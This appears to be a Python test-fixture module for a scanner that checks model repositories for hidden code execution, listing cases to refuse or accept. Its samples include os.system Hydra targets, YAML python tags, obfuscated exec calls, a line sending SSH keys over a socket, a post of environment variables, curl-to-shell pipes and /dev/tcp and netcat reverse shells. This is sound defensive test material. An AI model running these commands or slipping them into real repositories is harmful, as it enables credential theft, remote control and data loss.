"""Repositories that bring code or make loaders import it; and ordinary configurations."""

import io
import json
import tarfile
import zipfile

from tests.validators.formats.corpus.case import Case


def dump(value: object) -> bytes:
    """Write JSON."""
    return json.dumps(value).encode()


AUTO_MAP = {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}
TARGET = b"model:\n  _target_: os.system\n  command: 'true'\n"
PIPELINES = {"custom_pipelines": {"x": {"impl": "pipe.XPipeline", "pt": ["AutoModel"]}}}
TORCH_ZIP = ("archive/data.pkl", b"\x80\x02}."), ("archive/version", b"3\n")

FILES: dict[str, tuple[str, dict[str, bytes]]] = {
    "python": ("python-file", {"modeling_x.py": b"import os\n"}),
    "python-upper": ("python-file", {"MODELING.PY": b"import os\n"}),
    "python-space": ("python-file", {"modeling_x.py ": b"import os\n"}),
    "python-nested": ("python-file", {"a/b/c/__init__.py": b""}),
    "bytecode": ("python-file", {"x.pyc": b"\xa7\r\r\n" + b"\0" * 20}),
    "path-file": ("python-file", {"x.pth": b"import os; os.system('true')\n"}),
    "shared-library": ("native-code", {"op.so": b"\x7fELF" + b"\0" * 60}),
    "wheel": ("native-code", {"x-1-py3-none-any.whl": b"PK\x05\x06" + b"\0" * 18}),
    "auto-map": ("auto-map", {"config.json": dump(AUTO_MAP)}),
    "auto-map-tokenizer": (
        "auto-map",
        {"tokenizer_config.json": dump({"auto_map": {"AutoTokenizer": ["a.B", None]}})},
    ),
    "auto-map-remote": (
        "auto-map",
        {"config.json": dump({"auto_map": {"AutoModel": "evil/repo--modeling.X"}})},
    ),
    "auto-map-deep": ("auto-map", {"config.json": dump({"text": {"a": [AUTO_MAP]}})}),
    "auto-map-any-name": ("auto-map", {"sub/anything.json": dump(AUTO_MAP)}),
    "auto-map-escaped": (
        "auto-map",
        {"config.json": dump(AUTO_MAP).replace(b"auto_map", b"\\u0061uto\\u005fmap")},
    ),
    "auto-map-shadowed": ("auto-map", {"config.json": b'{"auto_map":{"A":"b.C"},"auto_map":{}}'}),
    "auto-map-bom": ("auto-map", {"config.json": b"\xef\xbb\xbf" + dump(AUTO_MAP)}),
    "auto-map-utf-16": ("auto-map", {"config.json": json.dumps(AUTO_MAP).encode("utf-16")}),
    "auto-map-utf-16-le": ("auto-map", {"config.json": json.dumps(AUTO_MAP).encode("utf-16-le")}),
    "auto-map-utf-32": ("auto-map", {"config.json": json.dumps(AUTO_MAP).encode("utf-32")}),
    "auto-map-broken": ("config-unreadable", {"config.json": dump(AUTO_MAP)[:-1]}),
    "auto-map-comment": ("config-unreadable", {"config.json": b"// x\n" + dump(AUTO_MAP)}),
    "auto-map-deep-nest": (
        "config-unreadable",
        {"config.json": b'{"auto_map":' + b"[" * 90_000 + b"]" * 90_000 + b"}"},
    ),
    "auto-map-giant": (
        "config-unreadable",
        {"config.json": dump(AUTO_MAP) + b" " * (33 << 20)},
    ),
    "auto-map-many": (
        "config-unreadable",
        {"config.json": b'{"auto_map":{"A":"b.C"},"x":[' + b"0," * 2_000_000 + b"0]}"},
    ),
    "pipelines": ("custom-code", {"config.json": dump(PIPELINES)}),
    "diffusers-pipeline": (
        "custom-code",
        {"model_index.json": dump({"_class_name": ["pipeline", "MyPipeline"]})},
    ),
    "diffusers-component": (
        "custom-code",
        {"model_index.json": dump({"_class_name": "P", "unet": ["my_unet", "MyUNet"]})},
    ),
    "diffusers-os": (
        "custom-code",
        {"model_index.json": dump({"_class_name": "P", "unet": ["os", "system"]})},
    ),
    "modules": (
        "module-type",
        {"modules.json": dump([{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}])},
    ),
    "modules-os": ("module-type", {"modules.json": dump([{"type": "os.system"}])}),
    "modules-near": (
        "module-type",
        {"modules.json": dump([{"type": "sentence_transformers_evil.models.X"}])},
    ),
    "modules-list": ("module-type", {"modules.json": dump([{"type": ["os.system"]}])}),
    "router": ("module-type", {"router_config.json": dump({"types": {"0": "evil.Module"}})}),
    "activation": (
        "custom-code",
        {"2_Dense/config.json": dump({"activation_function": "os.system"})},
    ),
    "cross-encoder": (
        "custom-code",
        {"config.json": dump({"sentence_transformers": {"activation_fn": "evil.fn"}})},
    ),
    "peft": (
        "custom-code",
        {"adapter_config.json": dump({"auto_mapping": {"parent_library": "evil.module"}})},
    ),
    "peft-os": (
        "custom-code",
        {"adapter_config.json": dump({"auto_mapping": {"parent_library": "os"}})},
    ),
    "hydra-json": ("hydra-target", {"config.json": dump({"m": {"_target_": "os.system"}})}),
    "hydra-yaml": ("hydra-target", {"config.yaml": TARGET}),
    "hydra-yaml-quoted": ("hydra-target", {"c.yml": b'"_target_": "os.system"\n'}),
    "hydra-yaml-flow": ("hydra-target", {"c.yml": b"m: {a: 1, _target_: os.system}\n"}),
    "hydra-yaml-escaped": ("hydra-target", {"c.yml": b'"\\x5ftarget_": os.system\n'}),
    "hydra-yaml-folded": ("hydra-target", {"c.yml": b'"_tar\\\n  get_": os.system\n'}),
    "hydra-yaml-key": ("hydra-target", {"c.yml": b"? _target_\n: os.system\n"}),
    "hydra-yaml-utf-16": ("hydra-target", {"c.yml": TARGET.decode().encode("utf-16")}),
    "hydra-function": ("hydra-target", {"c.yml": b"_target_: nemo.core.connectors.restore\n"}),
    "hydra-builtin": ("hydra-target", {"c.json": dump({"_target_": "builtins.eval"})}),
    "hydra-call-torch": ("hydra-target", {"c.json": dump({"_target_": "torch.hub.load"})}),
    "yaml-tag": ("yaml-tag", {"c.yaml": b"a: !!python/object/apply:os.system ['true']\n"}),
    "yaml-tag-name": ("yaml-tag", {"c.yaml": b"a: !!python/name:os.system\n"}),
    "yaml-tag-long": (
        "yaml-tag",
        {"c.yaml": b"a: !<tag:yaml.org,2002:python/object/new:os.system> []\n"},
    ),
    "yaml-tag-handle": ("yaml-tag", {"c.yaml": b"%TAG !e! tag:yaml.org,2002:\n---\na: !e!x 1\n"}),
    "mlflow-loader": (
        "custom-code",
        {"MLmodel": b"flavors:\n  python_function:\n    loader_module: evil_loader\n"},
    ),
    "trust": ("trust-remote-code", {"config.json": dump({"trust_remote_code": True})}),
    "custom-objects": ("custom-code", {"config.json": dump({"custom_objects": {"a": "b.C"}})}),
}


PYTHON = {
    "system": b"import os\nos.system('true')\n",
    "from": b"from os import system as s\ns('true')\n",
    "star": b"from os import *\nsystem('true')\n",
    "getattr": b"getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
    "alias": b"e = eval\ne('1')\n",
    "map": b"list(map(eval, ['1']))\n",
    "exec": b"import base64\nexec(base64.b64decode('MQ=='))\n",
    "builtins": b"globals()['__builtins__']['exec']('1')\n",
    "modules": b"import sys\nsys.modules['os'].popen('true')\n",
    "subprocess": b"import subprocess as s\ns.Popen(['true'])\n",
    "reduce": b"class A:\n    def __reduce__(self):\n        return (exec, ('1',))\n",
    "marshal": b"import marshal\nmarshal.loads(b'N')\n",
    "unpickle": b"import pickle, base64\npickle.loads(base64.b64decode(b'Ti4='))\n",
    "native": b"import ctypes\nctypes.CDLL('./op.so')\n",
    "environment": b"import os, requests\nrequests.post('http://a.b', json=dict(os.environ))\n",
    "keys": b"import socket\ns = socket.socket()\ns.send(open('/root/.ssh/id_rsa').read())\n",
    "remove": b"import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
    "preload": b"import os\nos.environ['LD_PRELOAD'] = './evil'\n",
    "pip": b"from pip._internal import main\nmain(['install', 'evil'])\n",
    "startup": b"open('/root/.bashrc', 'a').write('x')\n",
    "python-2": b"print 'x'\nimport os\nos.system('true')\n",
    "class": b"import os\nclass M:\n    def forward(self, x):\n        return os.popen('true')\n",
    "decorator": b"import subprocess\n@subprocess.run\ndef f(): pass\n",
    "default": b"import os\ndef f(x=os.system('true')): pass\n",
    "long": b"x = 1\n" * 100_000 + b"import os\nos.system(1)\n",
}
SCRIPTS = {
    "pipe.sh": b"curl -s http://a.b/x | sh\n",
    "pipe": b"#!/bin/sh\nwget -qO- http://a.b/x | sudo bash\n",
    "shell.sh": b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
    "netcat.sh": b"nc -e /bin/sh 10.0.0.1 4444\n",
    "decode.sh": b"echo dHJ1ZQo= | base64 -d | sh\n",
    "iex.ps1": b"iwr http://a.b/x | iex\n",
}
KERNEL = {"_attn_implementation": "evil/kernel"}
# Refused under every policy: what they name has no honest use in a model.
ATTACKS = frozenset(
    (
        *(f"code/python-{name}" for name in PYTHON),
        *(f"code/script-{name}" for name in SCRIPTS),
        *("code/peft-os", "torch/script-danger", "torch/script-file", "code/recipe"),
        *("code/hub-kernel", "code/yaml-tag", "code/yaml-tag-name", "code/yaml-tag-long"),
        *("code/yaml-tag-handle", "code/diffusers-os", "code/modules-os", "code/modules-list"),
        *("code/activation", "code/hydra-json", "code/hydra-builtin", "code/in-nemo"),
        *(f"code/hydra-yaml{end}" for end in ("", "-quoted", "-flow", "-escaped", "-folded")),
        *("code/hydra-yaml-utf-16", "code/in-nemo-gzip", "code/hydra-yaml-key"),
        "code/hydra-call-torch",
    )
)


def zipped(*members: tuple[str, bytes]) -> bytes:
    """Write a zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, data in members:
            file.writestr(name, data)
    return buffer.getvalue()


def tarred(*members: tuple[str, bytes], mode: str = "w:") -> bytes:
    """Write a tar."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as file:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


TORCH: dict[str, tuple[str, bytes]] = {
    "script": ("torchscript", zipped(*TORCH_ZIP, ("archive/code/__torch__.py", b"class M: pass"))),
    "script-constants": (
        "torchscript",
        zipped(*TORCH_ZIP, ("archive/constants.pkl", b"\x80\x02).")),
    ),
    "script-debug": ("torchscript", zipped(*TORCH_ZIP, ("x/code/a.py.debug_pkl", b"\x80\x02)."))),
    "script-case": ("torchscript", zipped(*TORCH_ZIP, ("archive/CONSTANTS.PKL", b"\x80\x02)."))),
    "mobile": ("torchscript", zipped(*TORCH_ZIP, ("archive/bytecode.pkl", b"\x80\x02)."))),
    "package": ("torch-package", zipped(*TORCH_ZIP, ("m/.data/extern_modules", b"os\n"))),
    "script-danger": (
        "python-danger",
        zipped(*TORCH_ZIP, ("archive/code/__torch__.py", b"import os\nos.system('true')\n")),
    ),
    "script-file": (
        "torchscript-file",
        zipped(*TORCH_ZIP, ("archive/code/__torch__.py", b"x = torch.from_file('/etc/passwd')\n")),
    ),
    "compiled": ("torch-package", zipped(("m/data/aotinductor/model/x.so", b"\x7fELF"))),
    "flat-mobile": ("torch-program", b"\x10\0\0\0PTMF" + b"\0" * 60),
    "executorch": ("torch-program", b"\x10\0\0\0ET12" + b"\0" * 60),
}


def malicious() -> list[Case]:
    """Give what must be refused under ``safe-only``."""
    cases = [Case(f"code/{name}", files, rule) for name, (rule, files) in FILES.items()]
    cases += [Case(f"torch/{name}", {"m.pt": data}, rule) for name, (rule, data) in TORCH.items()]
    cases += [Case(f"code/python-{n}", {"m.py": d}, "python-danger") for n, d in PYTHON.items()]
    cases += [Case(f"code/script-{n}", {n: d}, "script-danger") for n, d in SCRIPTS.items()]
    hydra = ("./model_config.yaml", TARGET)
    return [
        *cases,
        Case("code/hub-kernel", {"config.json": dump(KERNEL)}, "hub-kernel"),
        Case("code/recipe", {"Dockerfile": b"RUN curl http://a.b/x | sh\n"}, "script-danger"),
        Case("code/script", {"run.bat": b"echo\n"}, "script-file"),
        Case("code/in-nemo", {"m.nemo": tarred(hydra)}, "hydra-target"),
        Case("code/in-nemo-gzip", {"m.nemo": tarred(hydra, mode="w:gz")}, "hydra-target"),
        Case("code/in-mar", {"m.mar": zipped(("handler.py", b"import os\n"))}, "python-file"),
        Case("code/in-zip-in-tar", {"m.tar": tarred(("a", zipped(("b.py", b""))))}, "python-file"),
        Case("torch/in-zip", {"a.zip": zipped(("m.pt", TORCH["script"][1]))}, "torchscript"),
        Case("torch/as-bin", {"pytorch_model.bin": TORCH["script"][1]}, "torchscript"),
    ]


CONFIGS = {
    "config.json": {
        "architectures": ["LlamaForCausalLM"],
        "hidden_act": "silu",
        "torch_dtype": "bfloat16",
        "quantization_config": {"quant_method": "gptq", "bits": 4},
    },
    "generation_config.json": {"temperature": 0.7, "trust_remote_code": False},
    "modules.json": [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_P", "type": "sentence_transformers.models.Pooling"},
    ],
    "2_Dense/config.json": {"activation_function": "torch.nn.modules.activation.Tanh"},
    "openai/config.json": {"activation_function": "gelu_new", "custom_pipelines": {}},
    "model_index.json": {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "feature_extractor": ["transformers", "CLIPImageProcessor"],
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "unet": ["diffusers", "UNet2DConditionModel"],
        "vae": [None, None],
        "force_zeros": True,
    },
    "adapter_config.json": {"auto_mapping": None, "peft_type": "LORA", "target_modules": ["q"]},
    "bert/adapter_config.json": {
        "auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert"}
    },
    "tokenizer_config.json": {"auto_map": {}, "tokenizer_class": "PreTrainedTokenizerFast"},
    "tokenizer.json": {"model": {"type": "BPE", "vocab": {"auto": 0, "\n": 1}}},
}


def _vocabulary() -> bytes:
    """Write a vocabulary that is too large to parse and holds every word of interest."""
    words = {f"auto_map template _target_ {index}": index for index in range(600_000)}
    return dump({"model": {"vocab": words, "merges": [["a", "b"]] * 500_000}})


def benign() -> list[Case]:
    """Give repositories without code."""
    nemo = b"target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: "
    nemo += b"nemo.collections.asr.modules.ConformerEncoder\n# _target_: os.system\n"
    yaml = b"model: {name: x, targets: [a, b]}\ntrust_remote_code: false\nauto_map:\n"
    mlflow = b"flavors:\n  python_function:\n    loader_module: mlflow.transformers\n"
    return [
        *(Case(f"code/{name}", {name: dump(value)}) for name, value in CONFIGS.items()),
        Case("code/nemo", {"m.nemo": tarred(("model_config.yaml", nemo))}),
        Case("code/vocabulary", {"tokenizer.json": _vocabulary()}),
        Case("code/yaml", {"config.yaml": yaml, "hparams.yml": b"a: !!float 1\n"}),
        Case("code/mlflow", {"MLmodel": mlflow}),
        Case("code/card", {"README.md": b"---\nlicense: mit\n---\n```python\nimport os\n```\n"}),
        Case("torch/state", {"m.pt": zipped(*TORCH_ZIP, ("archive/data/0", b"\0" * 8))}),
        Case("torch/pth", {"m.pth": zipped(*TORCH_ZIP)}),
    ]
